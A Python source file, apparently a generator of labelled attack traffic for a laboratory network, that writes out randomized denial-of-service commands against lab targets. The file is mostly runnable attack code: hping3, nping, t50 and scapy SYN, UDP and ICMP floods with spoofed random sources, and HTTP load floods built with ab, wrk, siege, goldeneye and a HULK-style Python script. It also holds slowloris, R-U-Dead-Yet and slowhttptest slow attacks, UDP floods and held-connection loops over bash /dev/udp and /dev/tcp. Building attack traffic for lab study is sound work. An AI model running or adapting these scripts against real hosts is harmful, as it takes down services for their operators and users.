"""Floods and slow denial of service: each tool with what people set at it; rates that two cores and a laboratory's line carry."""

PAGES = ("index", "about", "products", "news", "team")


def page(s, tls=0.2):
    t = s.target("web"); s.victim = t
    return f"{'https' if s.r.random() < tls else 'http'}://{s.url(t)}/{s.one('', *(p + '.html' for p in PAGES))}"


def hping(s):
    s.six = False; host = s.one("web", "web", "ssh", "dns", "files"); t = s.target(host); s.victim = t
    port = {"web": s.one(80, 443), "ssh": 22, "dns": 53, "files": s.one(21, 445, 3306)}[host]
    way = s.one(f"-S -p {port}", f"-S -p {port}", f"-A -p {port}", f"-F -p {port}", f"-SA -p {port}", f"-R -p {port}", f"-PA -p {port}", f"--udp -p {s.one(port, 53, 123, 9999)}", f"--udp -p ++{s.one(1, 1024)}", "--icmp", "-S -p ++1", f"-FSPUA -p {port}")
    pace = s.one("-i u100", "-i u500", "-i u1000", "-i u2000", "-i u5000", "--faster", "--flood")
    if s.r.random() < 0.3:
        way += " --rand-source"; s.nobody = True
    size = s.option(0.5, '-d <>', 40, 120, 512, 1200, 1400)
    seconds = 4 if pace in ("--faster", "--flood", "-i u100") else s.between(6, 15)
    words = f"hping3 {way} {pace} {size} {s.maybe(.15, '-w 64')} {s.maybe(.1, '--frag')} {t}"
    s.length = 400
    # The line is bounded so that an unbounded tool leaves the machine alive.
    if pace in ("--faster", "--flood"):
        s.slow = s.slow or 20
        words += ' -c 40000'
    return f"{words} for {seconds} s", seconds, words + " -q"


def nping(s):
    s.six = False; t = s.target("web"); s.victim = t; s.length = 400
    rate = s.one(200, 500, 1000, 2000)
    words = f"nping -q {s.one('--tcp -p 80 --flags syn', '--tcp -p 443 --flags ack', '--udp -p 53', '--icmp')} --rate {rate} -c {rate * s.between(4, 9)} {s.option(.4, '--data-length <>', 64, 512, 1400)} {t}"
    return words, 20, words


def ping(s):
    t = s.target(s.one("web", "ssh")); s.victim = t; s.length = 400
    words = f"ping -q -f -s {s.one(56, 512, 1400, 8000, 65000)} {s.option(.4, '-l <>', 3, 20)} {t}"
    return words, s.between(6, 12), words


def load(s):
    u = page(s); c = s.one(10, 50, 100, 200); span = s.between(6, 14)
    s.length = 800
    words = s.one(f"ab -q -r -n 200000 -t {span} -c {c} {s.maybe(.4, '-k')} {u}", f"wrk -t {s.one(1, 2, 4)} -c {c} -d {span} {u}", f"siege {s.one('-b', '-b', '-d 0.1')} -c {min(c, 100)} -t {span}S {u}", f"hey -z {span}s -c {c} {s.maybe(.4, '-disable-keepalive')} {s.maybe(.3, '-m POST -d x=1')} {u}",
                  f"goldeneye {u} -w {s.one(2, 4)} -s {s.one(20, 50, 100)} -m {s.one('get', 'random', 'post')}", f"httperf --hog --server {s.victim} --uri /{s.one(*PAGES)}.html --num-conn {span * 200} --rate {s.one(100, 200, 500)} --timeout 3 {s.maybe(.3, '--num-calls 5')}")
    if "httperf" in words and s.six:
        words = f"wrk -t 2 -c {c} -d {span} {u}"
    return words, span, words


def hulk(s):
    u = page(s, 0); threads, span = s.one(10, 50, 100), s.between(6, 14); s.length = 800
    method = s.one("", "", ",data=b'a'*200")
    words = f"HULK-like python {threads} threads random parameters, referer, agent {method and 'POST'}"
    return words, span, f"""python3 -c "
import random,string,threading,urllib.request as q
A=['Mozilla/5.0 (Windows NT 6.1) AppleWebKit/5%d.1 Chrome/%d.0 Safari'%(i,90+i) for i in range(9)]
w=lambda n:''.join(random.choices(string.ascii_uppercase,k=n))
def go():
    while 1:
        try: q.urlopen(q.Request('{u}?'+w(random.randint(3,10))+'='+w(random.randint(3,10)),headers={{'User-Agent':random.choice(A),'Referer':'http://www.google.com/?q='+w(7),'Cache-Control':'no-cache'}}{method}),timeout=5).read()
        except Exception: pass
[threading.Thread(target=go).start() for _ in range({threads})]" """


def sockets(s):
    way = s.one("udp", "udp", "connect", "dns", "bash")
    s.length = 400
    span = s.between(6, 12)
    if way == "dns":
        s.six = False; t = s.target("dns"); s.victim = t; rate = s.one(200, 600, 1500)
        return f"python {rate} names a second", span, f"python3 \"$LAB_HOME/tools/dns_queries.py\" {t} {rate} {span}"
    t = s.target(s.one("web", "ssh")); s.victim = t
    if way == "connect":
        rate = s.one(50, 150, 400)
        return f"python {rate} connections a second", span, f"""python3 -c "
import socket,time
K=[]
while 1:
    s=socket.socket(socket.AF_INET{'6' if s.six else ''});s.setblocking(0);s.connect_ex(('{t}',{80 if t.endswith('10') else 22}));K.append(s);time.sleep(1/{rate})
    if len(K)>800:K.pop(0).close()" """
    if way == "bash":
        return "bash /dev/udp loop", span, f"while :; do head -c {s.one(64, 512, 1400)} /dev/zero >/dev/udp/{t}/{s.one(53, 80, 9999)}; done 2>/dev/null"
    size, port, pause = s.one(1, 64, 512, 1024, 1400, 65000), s.one("80", "53", "random.randint(1,65535)"), s.one(0.0005, 0.001, 0.002)
    return f"python UDP flood size {size} port {port} pause {pause}", span, f"""python3 -c "
import socket,random,time
s=socket.socket(socket.AF_INET{'6' if s.six else ''},socket.SOCK_DGRAM);b=random.randbytes({size})
while 1:
    try: s.sendto(b,('{t}',{port}))
    except OSError: pass
    time.sleep({pause})" """


def scapy(s):
    s.six = False; t = s.target("web"); s.victim = t; s.length = 400
    layers, who = s.one(("TCP(sport=RandShort(),dport=80,flags='S')", 0), ("TCP(sport=RandShort(),dport=80,flags='S')", 1), ("UDP(sport=RandShort(),dport=53)/('x'*500)", 0), ("ICMP()/('x'*900)", 1))
    s.nobody = bool(who)
    words = f"scapy send {'src=RandIP() ' if who else ''}{layers}"
    return words, 20, f"""/usr/bin/python3 -c "from scapy.all import *
L=conf.L3socket()
p=IP({'src=RandIP(),' if who else ''}dst='{t}')/{layers}
import time
end=time.time()+10
while time.time()<end: L.send(p)" """


def other(s):
    s.six = False; t = s.target("web"); s.victim = t; s.length = 400
    way = s.one("t50", "mausezahn", "netwox", "thcsyn6")
    if way == "t50":
        words = f"t50 {t} --protocol {s.one('TCP --dport 80 -S', 'UDP --dport 53', 'ICMP')} --threshold {s.one(3000, 8000)} -s {s.outer()}"
        return words, 15, words
    if way == "mausezahn":
        s.nobody = True
        words = f"mausezahn eth0 -c {s.one(3000, 8000)} -d {s.one('500u', '1000u')} -b {s.mac('web')} -A rand -B {t} -t {s.one('tcp dp=80,flags=syn', 'udp dp=53', 'tcp dp=443,flags=ack')}"
        return words, 20, words
    if way == "netwox":
        s.nobody = True; s.slow = 10
        words = f"netwox 76 -i {t} -p {s.one(80, 443)}"
        return words, 5, words
    s.six = True; t = s.target("web"); s.victim = t; s.nobody = True; s.slow = 10
    words = f"atk6-thcsyn6 eth0 {t} 80"
    return words, 5, words


FLOODS = {"hping3": (hping, 6), "nping": (nping, 1), "ping": (ping, 1), "load": (load, 4), "hulk": (hulk, 1), "sockets": (sockets, 2), "scapy": (scapy, 1), "other": (other, 1)}


def slowhttptest(s):
    t = s.target("web"); s.victim = t
    u = f"{'https' if s.r.random() < .25 else 'http'}://{s.url(t)}"
    c, rate = s.one(50, 100, 200, 400), s.one(10, 25, 50, 100)
    mode = s.one(lambda: f"-H -i {s.one(3, 5, 10)} -t {s.one('GET', 'POST', 'HEAD')} -x {s.one(10, 24)} -u {u}/", lambda: f"-B -i {s.one(3, 5, 10)} -s {s.one(4096, 8192)} -t {s.one('POST', 'FAKEVERB')} -x {s.one(8, 32)} -u {u}/signin",
                 lambda: f"-X -w {s.one(1, 10, 512)} -y {s.one(20, 1024)} -n {s.one(1, 5)} -z {s.one(5, 32)} -k {s.one(1, 3)} -u {u}/static/catalogue.csv", lambda: f"-R -a {s.one(1, 10)} -b {s.one(1000, 3000)} -t HEAD -u {u}/index.html")()
    words = f"slowhttptest -c {c} -r {rate} -p {s.one(1, 3)} -l {s.one(25, 35, 45)} {mode}"
    return words, 50, words


def slowloris(s):
    t = s.target("web"); s.victim = t
    n, span, every = s.one(20, 50, 150, 300), s.one(30, 40, 50), s.one(5, 10, 15)
    words = f"slowloris.py -s {n} --sleeptime {every}"
    return words, span, f"""python3 -c "
import socket,time,random
def new():
    s=socket.create_connection(('{t}',80),4);s.send(b'GET /?%d HTTP/1.1\\r\\n'%random.randint(0,2000));s.send(b'User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/602.1.50\\r\\n');s.send(b'Accept-language: en-US,en,q=0.5\\r\\n');return s
L=[new() for _ in range({n})]
while 1:
    for s in list(L):
        try: s.send(b'X-a: %d\\r\\n'%random.randint(1,5000))
        except OSError:
            L.remove(s)
            try: L.append(new())
            except OSError: pass
    time.sleep({every})" """


def rudy(s):
    t = s.target("web"); s.victim = t
    n, span, every = s.one(15, 40, 120), s.one(35, 45), s.one(1, 5, 10)
    words = f"R-U-Dead-Yet python {n} connections a letter each {every} s"
    return words, span, f"""python3 -c "
import socket,time
L=[]
for _ in range({n}):
    s=socket.create_connection(('{t}',80),4);s.send(b'POST /signin HTTP/1.1\\r\\nHost: {s.url(t)}\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\nContent-Length: 1000000\\r\\n\\r\\n');L.append(s)
while 1:
    for s in L:
        try: s.send(b'a')
        except OSError: pass
    time.sleep({every})" """


def held(s):
    t = s.target("web"); s.victim = t
    n, port = s.one(30, 80, 200), s.one(80, 443)
    first = s.one("", "GET / HTTP/1.1\\r\\n", "GET / HTTP/1.1\\r\\nHost: x\\r\\n")
    first = first if port == 80 else ""
    words = f"bash {n} connections to {port} held with '{first[:5]}'"
    return words, 45, f"""for i in $(seq {n}); do (exec 3<>/dev/tcp/{t}/{port}; printf '{first}' >&3; sleep 35) 2>/dev/null & sleep 0.05; done; wait"""


SLOW = {"slowhttptest": (slowhttptest, 6), "slowloris": (slowloris, 3), "rudy": (rudy, 2), "held": (held, 1)}
